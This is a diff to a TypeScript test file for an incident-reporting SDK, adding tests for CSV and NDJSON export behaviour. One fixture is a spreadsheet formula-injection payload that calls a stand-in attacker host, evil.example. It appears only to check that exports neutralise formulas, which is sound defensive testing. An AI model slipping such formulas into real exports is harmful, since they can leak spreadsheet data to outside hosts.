@@ -1,12 +1,16 @@
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
-import { readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { writeFile } from 'node:fs/promises';
 import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import {
   AuthenticationError,
   type CachedAnswer,
   createClient,
+  type CsvRecord,
   type Incident,
   NotFoundError,
   PermissionError,
@@ -19,6 +23,7 @@ import {
 import { importFile } from '../../src/import/import.ts';
 import { createTestContext, STORES, seedAccount, seedKey, type TestContext } from '../helpers.ts';
 import { account, gone, incident, minute, ndjson } from '../import/files.ts';
+import { parseCsv } from '../strict-csv.ts';
 
 /** The SDK against the real server, listening on a port (the SDK speaks HTTP through fetch). */
 
@@ -44,6 +49,26 @@ const user = (accountId: string, name: string) => ({
   role: 'manager',
 });
 
+/** Text that spreadsheets would run as a formula, and text that CSV must quote. */
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+const QUOTED = 'Spill, "wet" floor\nnear Dock 3 – Åsa 🚧';
+
+/**
+ * A record as a CSV export's row holds it: every field as text, null as empty, a text field that a
+ * spreadsheet would take for a formula behind a `'` (src/lib/csv.ts).
+ */
+const csvRecord = (record: Record<string, unknown>): CsvRecord =>
+  Object.fromEntries(
+    Object.entries(record).map(([name, value]) => [
+      name,
+      value === null
+        ? ''
+        : typeof value === 'string' && /^[=+\-@\t\r]/.test(value)
+          ? `'${value}`
+          : String(value),
+    ]),
+  );
+
 /** Rejects with a SafetyApiError, which it returns. */
 async function apiError(call: Promise<unknown>): Promise<SafetyApiError> {
   const error = await call.catch((caught: unknown) => caught);
@@ -67,6 +92,9 @@ for (const store of STORES) {
       baseUrl = `http://127.0.0.1:${(ctx.app.server.address() as AddressInfo).port}`;
       accountId = randomUUID();
       for (let i = 1; i <= INCIDENTS; i += 1) incidents.push(incident(accountId, i, minute(i)));
+      // For the CSV export: a field that must be quoted, one guarded against formulas.
+      Object.assign(incidents[0]!, { description: FORMULA });
+      Object.assign(incidents[1]!, { description: QUOTED, location: 'Dock 3' });
       users.push(user(accountId, 'Ann'), user(accountId, 'Bob'), user(accountId, 'Cy'));
       await importFile(
         ctx.db,
@@ -223,6 +251,60 @@ for (const store of STORES) {
       }
       await (await client.exportLocations()).cancel();
       assert.equal((await client.listDepartments()).data.length, 2);
+    });
+
+    test('a CSV export: rows as text records under the header row, in the list order', async () => {
+      const listed = (await client.listIncidents({ limit: 200 })).data.data;
+      const exported = await client.exportIncidents({ format: 'csv' });
+      assert.match(exported.cursor, /./);
+      const rows: CsvRecord[] = [];
+      for await (const row of exported) rows.push(row);
+      assert.deepEqual(rows, listed.map(csvRecord));
+      assert.ok(rows.some((row) => row.description === `'${FORMULA}`));
+      assert.ok(rows.some((row) => row.description === QUOTED && row.location === 'Dock 3'));
+      await assert.rejects(async () => {
+        for await (const row of exported) assert.fail(`a second pass yielded ${JSON.stringify(row)}`);
+      }, /this export was read already/);
+
+      const users: CsvRecord[] = [];
+      for await (const row of await client.exportUsers({ format: 'csv' })) users.push(row);
+      assert.deepEqual(users, (await client.listUsers()).data.map(csvRecord));
+    });
+
+    test('body: the bytes of an export, written to a file as they came, and then no rows', async () => {
+      const dir = mkdtempSync(join(tmpdir(), 'safety-sdk-export-'));
+      try {
+        const listed = (await client.listIncidents({ limit: 200 })).data.data;
+        const csv = await client.exportIncidents({ format: 'csv' });
+        await writeFile(join(dir, 'incidents.csv'), csv.body);
+        // The file the service wrote (RFC 4180, CRLF), not a re-encoding of parsed rows.
+        const [header, ...records] = parseCsv(readFileSync(join(dir, 'incidents.csv'), 'utf8'));
+        assert.deepEqual(header, Object.keys(listed[0]!));
+        assert.deepEqual(
+          records.map((fields) => Object.fromEntries(header!.map((name, i) => [name, fields[i]]))),
+          listed.map(csvRecord),
+        );
+        assert.throws(
+          () => csv[Symbol.asyncIterator](),
+          /this export is read as bytes \(its body was taken\)/,
+        );
+
+        const exported = await client.exportIncidents();
+        await writeFile(join(dir, 'incidents.ndjson'), exported.body);
+        const lines = readFileSync(join(dir, 'incidents.ndjson'), 'utf8').split('\n');
+        assert.equal(lines.pop(), '', 'every line ends in LF');
+        assert.deepEqual(
+          lines.map((line) => JSON.parse(line)),
+          listed,
+        );
+
+        // Rows first: the body is no longer whole.
+        const iterated = await client.exportDepartments();
+        for await (const row of iterated) assert.match(row.name, /./);
+        assert.throws(() => iterated.body, /this export is being read as rows/);
+      } finally {
+        rmSync(dir, { recursive: true, force: true });
+      }
     });
 
     test('cache: a GET goes again with If-None-Match, and the 304 is answered from the cache', async () => {
